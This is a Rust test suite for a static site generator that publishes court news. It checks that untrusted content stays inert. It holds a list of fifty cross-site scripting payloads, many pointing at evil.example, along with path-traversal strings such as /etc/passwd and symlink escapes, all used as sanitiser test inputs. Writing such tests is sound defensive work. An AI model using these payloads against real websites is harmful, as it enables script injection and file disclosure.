//! Content by others: nothing of it runs, leaves its place, is followed outside or brings the program down.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::{Duration, Instant};

use crate::html::{self, Page};
use crate::site::{NOW, Run, Site, files};

/// Texts that would do something if a browser took them for markup.
const PAYLOADS: [&str; 50] = [
    "<script>evil()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<img src=x onerror=evil()>",
    "<img src=\"https://evil.example/x.png\">",
    "<p onclick=evil()>a</p>",
    "<p ONCLICK = 'evil()' style=\"background:url(//evil.example)\">a</p>",
    "<a href=\"javascript:evil()\">a</a>",
    "<a href=\" &#106;avascript:evil()\">a</a>",
    "<a href=\"java&Tab;script:evil()\">a</a>",
    "<a href=\"jav&#x0A;ascript:evil()\">a</a>",
    "<a href='vbscript:evil()'>a</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">a</a>",
    "<a href=\"//evil.example/\">a</a>",
    "<a href=\"\\\\evil.example/\">a</a>",
    "[a](javascript:evil())",
    "[a](JaVaScRiPt:evil())",
    "[a](java&#115;cript:evil())",
    "[a](<java\\script:evil()>)",
    "[a](&#x6A;avascript&colon;evil())",
    "[a](data:text/html,<script>evil()</script>)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a]: javascript:evil()\n\n[a]",
    "![a](javascript:evil())",
    "![a](https://evil.example/x.png)",
    "![a](//evil.example/x.png)",
    "<javascript:evil()>",
    "<svg onload=evil()><script>evil()</script></svg>",
    "<svg><a xlink:href=\"javascript:evil()\"><text>a</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=evil()&gt;\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=\"https://evil.example/\"><input name=a><button formaction=javascript:evil()>a</button></form>",
    "<iframe src=\"https://evil.example/\" srcdoc=\"<script>evil()</script>\"></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf><applet code=evil></applet>",
    "<video src=https://evil.example/v autoplay onplay=evil()></video><audio src=//evil.example/a></audio>",
    "<details ontoggle=evil() open><summary>a</summary>b</details>",
    "<!--><script>evil()</script>-->",
    "<![CDATA[<script>evil()</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=evil()>\"></noscript>",
    "<template><script>evil()</script></template><textarea><script>evil()</script></textarea>",
    "</main></body></html><script>evil()</script>",
    "</title><script>evil()</script>",
    "<p title='\"><script>evil()</script>'>a</p>",
    "```\n</code></pre><script>evil()</script>\n```",
    ":::quote speaker=\"<script>evil()</script>\" office=\"\\\" onclick=evil() x=\\\"\"\na <img src=x onerror=evil()>\n:::",
    "{{ 7 * 191 }} {% include \"layout.html\" %} {{ chrome }} <{{ t }}>",
];

fn item(title: &str, more: &str, body: &str) -> String {
    let title = serde_json::to_string(title).expect("JSON is YAML");
    format!("---\ntitle: {title}\ndate: 2026-11-20\nsummary: {title}\n{more}---\n\n{body}\n")
}

/// Every file that a check names, with the codes.
fn findings(run: &Run) -> BTreeMap<String, Vec<String>> {
    let mut found: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for line in run.stdout.lines() {
        let file = line.split(':').next().unwrap_or_default().to_owned();
        let code = line.split_once('[').and_then(|(_, rest)| rest.split_once(']')).map(|(code, _)| code.to_owned());
        found.entry(file).or_default().extend(code);
    }
    found
}

/// Takes every file out that has an error, and tells what was found.
#[track_caller]
pub(crate) fn take_out_errors(site: &Site) -> BTreeMap<String, Vec<String>> {
    let run = site.run(&["check", "content", "--now", NOW, "--format", "short", "--lang", "en"]);
    assert!([0, 1].contains(&run.code), "{}: {}", run.code, run.stderr);
    let with_errors = |line: &&str| line.contains(" error[");
    for file in run.stdout.lines().filter(with_errors).filter_map(|line| line.split(':').next()) {
        let _ = fs::remove_file(site.content().join(file));
    }
    findings(&run)
}

/// Builds what has no errors; every file must be a page or named by a finding.
#[track_caller]
fn publish(site: &Site) -> BTreeMap<String, Vec<String>> {
    let begun = Instant::now();
    let found = take_out_errors(site);
    let before = around(site);
    site.build().ok();
    assert_eq!(before, around(site), "something was written outside the output and the cache");
    assert!(begun.elapsed() < Duration::from_secs(60), "{:?}", begun.elapsed());
    for name in before.keys().filter_map(|name| name.strip_prefix("content/")?.strip_suffix("/index.kk.md")) {
        let slug = name.rsplit('/').next().expect("a folder");
        let page = site.has_output(&format!("almaty/kk/news/2026/{slug}/index.html"));
        let told = found.contains_key(&format!("{name}/index.kk.md"));
        assert!(page || told, "{name} is neither a page nor a finding");
    }
    found
}

/// All that lies in the folder above content and output, but neither the output nor the cache; of a link, its target.
fn around(site: &Site) -> BTreeMap<String, Vec<u8>> {
    let mut all = BTreeMap::new();
    let mut folders = vec![site.root().to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).expect("a folder") {
            let (path, kind) = entry.map(|entry| (entry.path(), entry.file_type().expect("a kind"))).expect("an entry");
            if path == site.out() || path == site.content().join(".zharia") {
                continue;
            }
            let name = path.strip_prefix(site.root()).expect("below").to_string_lossy().into_owned();
            if kind.is_dir() {
                folders.push(path);
            } else if kind.is_symlink() {
                all.insert(name, fs::read_link(&path).expect("a link").into_os_string().into_encoded_bytes());
            } else {
                all.insert(name, fs::read(&path).expect("a file"));
            }
        }
    }
    all
}

/// Nothing in a page or in the text of a feed runs, loads from elsewhere or leads to a script.
#[track_caller]
pub(crate) fn harmless(site: &Site) {
    for (path, bytes) in files(&site.out()) {
        let Ok(text) = String::from_utf8(bytes) else { continue };
        if path.ends_with("/index.html") || path.ends_with("/404.html") {
            let page = html::read(&text);
            inert(&path, &page);
            assert!(
                page.loads.iter().all(|address| address.starts_with('/') && !address.starts_with("//")),
                "{path}: {:?}",
                page.loads
            );
            assert_eq!((page.mains, page.h1.len()), (1, 1), "{path}: markup broke out");
        }
        if ["/feed.xml", "/atom.xml", "/feed.json"].iter().any(|file| path.ends_with(file)) {
            let feed = feed_rs::parser::parse(text.as_bytes()).unwrap_or_else(|error| panic!("{path}: {error}"));
            for entry in feed.entries {
                let body = entry.content.and_then(|content| content.body).unwrap_or_default();
                let summary = entry.summary.map(|text| text.content).unwrap_or_default();
                inert(&path, &html::read(&body));
                // JSON Feed has summaries in plain text.
                if !path.ends_with("/feed.json") {
                    inert(&path, &html::read(&summary));
                }
            }
        }
    }
}

#[track_caller]
fn inert(path: &str, page: &Page) {
    assert_eq!(page.active, [""; 0], "{path}");
    for address in &page.links {
        // The site's own calendar, and nothing else, opens a program.
        let calendar = address.strip_prefix("webcal://").and_then(|rest| rest.split_once(".sot.example/"));
        if calendar
            .is_some_and(|(host, path)| !host.contains('/') && ["kk/calendar.ics", "ru/calendar.ics"].contains(&path))
        {
            continue;
        }
        let known = ["https://", "mailto:", "tel:", "/", "#"].iter().any(|start| address.starts_with(start));
        let host = address.strip_prefix("https://").and_then(|rest| rest.split('/').next());
        let foreign = host.is_some_and(|host| !host.ends_with(".example") || host == "evil.example");
        let leaves = foreign || address.starts_with("//") || address.contains('\\');
        assert!(known && !leaves, "{path}: {address}");
    }
}

#[test]
fn no_payload_is_live_in_a_text() {
    let site = Site::new();
    for (n, payload) in PAYLOADS.iter().enumerate() {
        site.file(&format!("courts/almaty/news/p{n}/index.kk.md"), item(&format!("P {n}"), "", payload));
        // Amid words, in a list, in a cell, in a heading.
        let flat = payload.replace('\n', " ");
        let body =
            format!("a {flat} b\n\n- {flat}\n\n> {flat}\n\n## {flat}\n\n| {flat} | b |\n|---|---|\n| {flat} | c |\n");
        site.file(&format!("courts/almaty/news/q{n}/index.kk.md"), item(&format!("Q {n}"), "", &body));
    }
    let found = publish(&site);
    harmless(&site);
    let pages = files(&site.out()).into_keys().filter(|path| path.starts_with("almaty/kk/news/2026/")).count();
    assert!(pages > PAYLOADS.len(), "only {pages} pages were left to look at: {found:?}");
    let braces = site.output(&format!("almaty/kk/news/2026/p{}/index.html", PAYLOADS.len() - 1));
    assert!(braces.contains("{{ 7 * 191 }}") && !braces.contains("1337"));
}

#[test]
fn no_payload_is_live_in_a_field() {
    let site = Site::new();
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"></svg>";
    for (n, payload) in PAYLOADS.iter().enumerate() {
        let text = serde_json::to_string(payload).expect("JSON");
        let more = format!(
            "type: press-release\nnumber: {text}\nplace: {text}\ntags: [{text}]\nimage: {{src: a.svg, alt: {text}, credit: {text}}}\n\
             attachments: [{{file: a.txt, title: {text}}}]\ncorrections: [{{date: 2026-11-21, note: {text}}}]\n"
        );
        let folder = format!("courts/almaty/news/f{n}");
        site.file(&format!("{folder}/index.kk.md"), item(payload, &more, "Text."));
        site.file(&format!("{folder}/a.svg"), svg).file(&format!("{folder}/a.txt"), "a");
    }
    let text = serde_json::to_string(PAYLOADS[0]).unwrap();
    let court = fs::read_to_string(site.content().join("courts/almaty/court.yaml")).unwrap();
    site.file("courts/almaty/court.yaml", court.replace("\"Сот almaty\"", &text).replace("Қала", &text));
    publish(&site);
    harmless(&site);
    assert!(files(&site.out()).keys().filter(|path| path.starts_with("almaty/kk/news/2026/f")).count() > 45);
}

#[test]
fn no_path_leads_out_of_the_tree() {
    let site = Site::new();
    fs::write(
        site.root().join("outside.svg"),
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><title>canary</title></svg>",
    )
    .unwrap();
    site.file("private/notes.svg", "canary").file("courts/astana.svg", "canary");
    let paths = [
        "../../../../../outside.svg",
        "../../../../private/notes.svg",
        "/outside.svg",
        "/etc/passwd",
        "..\\\\..\\\\..\\\\..\\\\..\\\\outside.svg",
        "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/outside.svg",
        "file:///etc/passwd",
        "a/../../../../../../outside.svg",
        "//outside.svg",
        "",
        "/",
        ".",
        "..",
    ];
    let mut expected = Vec::new();
    for (n, path) in paths.iter().enumerate() {
        let fields = [
            (format!("image: {{src: \"{path}\", alt: a}}\n"), String::new()),
            (format!("attachments: [{{file: \"{path}\", title: a}}]\n"), String::new()),
            (String::new(), format!("![a](<{path}>)")),
            (String::new(), format!(":::figure src=\"{path}\" alt=\"a\"\na\n:::")),
        ];
        for (m, (more, body)) in fields.iter().enumerate() {
            let file = format!("courts/almaty/news/n{n}-{m}/index.kk.md");
            site.file(&file, item("T", more, body));
            expected.push(file);
        }
    }
    let fields = [
        ("slug: ../../../evil", "s0"),
        ("slug: /evil", "s1"),
        ("aliases: [/../../evil/]", "s2"),
        ("aliases: [//evil.example/]", "s3"),
        ("aliases: [\"/a /b 200!\\n/* https://evil.example/:splat\"]", "s4"),
        ("aliases: [\"/*\"]", "s5"),
        ("aliases: [evil]", "s6"),
        ("contact: ../../people/almaty-press", "s7"),
        ("type: ../../x", "s8"),
    ];
    for (field, slug) in fields {
        let file = format!("courts/almaty/news/{slug}/index.kk.md");
        site.file(&file, item("T", &format!("{field}\n"), "Text."));
        expected.push(file);
    }
    let found = publish(&site);
    for file in &expected {
        assert!(found.contains_key(file), "nothing is told of {file}");
    }
    for (path, bytes) in files(&site.out()) {
        assert!(!String::from_utf8_lossy(&bytes).contains("canary"), "{path}");
        assert!(!String::from_utf8_lossy(&bytes).contains("evil"), "{path}");
    }
}

#[test]
fn links_are_not_followed() {
    let site = Site::new();
    let outside = site.root().join("outside");
    fs::create_dir_all(outside.join("item")).unwrap();
    fs::create_dir_all(outside.join("theme/templates")).unwrap();
    fs::write(outside.join("secret.txt"), "canary").unwrap();
    fs::write(outside.join("item/index.kk.md"), item("canary", "", "canary")).unwrap();
    fs::write(outside.join("theme/theme.yaml"), "name: linked\nextends: base\n").unwrap();
    fs::write(outside.join("theme/templates/404.html"), "canary").unwrap();
    site.file("courts/almaty/news/a/index.kk.md", item("A", "attachments: [{file: secret.txt, title: a}]\n", "Text."));
    let at = |path: &str| site.content().join(path);
    symlink(outside.join("secret.txt"), at("courts/almaty/news/a/secret.txt")).unwrap();
    symlink(outside.join("item"), at("courts/almaty/news/linked")).unwrap();
    symlink("..", at("courts/almaty/news/a/loop")).unwrap();
    fs::create_dir_all(at("courts/almaty/news/b")).unwrap();
    symlink(outside.join("item/index.kk.md"), at("courts/almaty/news/b/index.kk.md")).unwrap();
    let told = publish(&site);
    for link in ["a/secret.txt", "linked", "a/loop", "b/index.kk.md"] {
        let codes = told.get(&format!("courts/almaty/news/{link}"));
        assert!(codes.is_some_and(|codes| codes.contains(&"D228".to_owned())), "{link}: {told:?}");
    }
    assert!(files(&site.out()).values().all(|bytes| !String::from_utf8_lossy(bytes).contains("canary")));
    // A theme that is a link is no theme.
    fs::create_dir_all(at("themes")).unwrap();
    symlink(outside.join("theme"), at("themes/linked")).unwrap();
    let settings = fs::read_to_string(at("zharia.yaml")).unwrap();
    site.file("zharia.yaml", settings.replace("theme: base", "theme: linked"));
    site.build().fails(3);
    // Nor is one in a folder that is a link.
    fs::remove_dir_all(at("themes")).unwrap();
    symlink(&outside, at("themes")).unwrap();
    fs::rename(outside.join("theme"), outside.join("linked")).unwrap();
    site.build().fails(3);
    // Nor are a theme's files that are links.
    fs::remove_file(at("themes")).unwrap();
    site.file("themes/linked/theme.yaml", "name: linked\nextends: base\n").file("themes/linked/templates/x.html", "x");
    symlink(outside.join("linked/templates/404.html"), at("themes/linked/templates/404.html")).unwrap();
    site.build().ok();
    assert!(!site.output("almaty/404.html").contains("canary"));
}

#[test]
fn links_in_the_output_are_not_followed() {
    let site = Site::new();
    site.news("almaty", "a", "First").build().ok();
    let right = files(&site.out());
    let outside = site.root().join("outside");
    fs::create_dir_all(outside.join("news")).unwrap();
    fs::write(outside.join("index.html"), "not ours").unwrap();
    fs::remove_dir_all(site.out().join("almaty/kk")).unwrap();
    symlink(&outside, site.out().join("almaty/kk")).unwrap();
    site.build().ok();
    assert!(files(&site.out()) == right);
    fs::remove_dir_all(site.out().join("almaty")).unwrap();
    symlink(&outside, site.out().join("almaty")).unwrap();
    site.build().fails(4);
    assert_eq!(files(&outside), BTreeMap::from([("index.html".to_owned(), b"not ours".to_vec())]));
}

#[test]
fn attachments_that_browsers_would_run_are_handed_out_as_text() {
    let site = Site::new();
    let endings = ["html", "HTM", "xhtml", "svg", "js", "mjs", "xml", "css", "wasm", "txt", "pdf", "shtml", "htaccess"];
    let active = "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>evil()</script></html>";
    let list: Vec<String> = endings.iter().map(|ending| format!("{{file: x.{ending}, title: a}}")).collect();
    site.file("courts/almaty/news/a/index.kk.md", item("A", &format!("attachments: [{}]\n", list.join(", ")), "Text."));
    for ending in endings {
        site.file(&format!("courts/almaty/news/a/x.{ending}"), active);
    }
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\" onload=\"evil()\">\
               <script>evil()</script><rect width=\"9\" height=\"9\" onclick=\"evil()\"/></svg>";
    site.file("courts/almaty/news/b/index.kk.md", item("B", "image: {src: x.svg, alt: a}\n", "![a](x.svg)"));
    site.file("courts/almaty/news/b/x.svg", svg);
    site.build_with(&["--format", "short"]).fails(1);
    // What is no drawing is refused, of a drawing only lines and shapes are left.
    let told = findings(&site.build_with(&["--format", "short"]));
    let codes: Vec<&String> = told.values().flatten().collect();
    assert!(["D618", "D619"].iter().all(|code| codes.iter().any(|told| told == code)), "{told:?}");
    site.remove("courts/almaty/news/a/x.svg");
    let kept: Vec<String> = list.into_iter().filter(|file| !file.contains("svg")).collect();
    site.file("courts/almaty/news/a/index.kk.md", item("A", &format!("attachments: [{}]\n", kept.join(", ")), "Text."));
    site.build().ok();
    harmless(&site);
    let assets = files(&site.out().join("almaty/assets"));
    assert!(assets.len() > 10, "{:?}", assets.keys());
    for (name, bytes) in assets {
        let ending = Path::new(&name).extension().and_then(|ending| ending.to_str()).unwrap_or_default();
        let ours = ["css", "js", "svg", "woff2"].contains(&ending) && !String::from_utf8_lossy(&bytes).contains("evil");
        assert!(ours || ["txt", "pdf", "htaccess"].contains(&ending), "{name}");
    }
}
